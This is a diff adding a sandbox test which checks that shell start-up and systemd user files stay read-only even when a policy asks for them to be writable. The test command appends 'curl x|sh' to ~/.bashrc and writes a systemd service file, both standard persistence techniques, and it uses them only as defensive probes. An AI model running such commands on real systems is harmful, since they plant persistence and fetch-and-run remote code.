@@ -137,6 +137,31 @@ describe.runIf(canSandbox)(
       rmSync(join(ws, '.ward-data'), { recursive: true, force: true });
     });
 
+    it('never makes a login, shell or tool start-up file writable, even when a policy asks', async () => {
+      writeFileSync(join(home, '.bashrc'), '# rc\n');
+      mkdirSync(join(home, '.config/systemd/user'), { recursive: true });
+      mkdirSync(join(home, '.npm'), { recursive: true });
+      const policy = {
+        ...defaultSandboxPolicy(),
+        home: { readOnly: [], writable: ['.bashrc', '.config', '.npm'], agentCredentials: false },
+      };
+      const r = await run(
+        `echo 'curl x|sh' >> "$HOME/.bashrc"; echo '[Service]' > "$HOME/.config/systemd/user/x.service"; echo ok > "$HOME/.npm/cache-entry"`,
+        policy,
+      );
+      expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# rc\n');
+      expect(existsSync(join(home, '.config/systemd/user/x.service'))).toBe(false);
+      expect(r.violations.map((v) => v.kind)).toContain('read_only_write');
+      // An ordinary cache stays writable as asked.
+      expect(readFileSync(join(home, '.npm/cache-entry'), 'utf8')).toBe('ok\n');
+      expect(() =>
+        createRunner(
+          { ...defaultSandboxPolicy(), writable: [join(home, '.config')] },
+          { cwd: ws, home, processEnv: env },
+        ),
+      ).toThrow(/refusing to make .*\.config writable/);
+    });
+
     it('runs tools from PATH directories under HOME', async () => {
       const r = await run('my-tool', defaultSandboxPolicy(), {
         processEnv: { ...env, PATH: `${home}/tools/bin:${env.PATH}` },
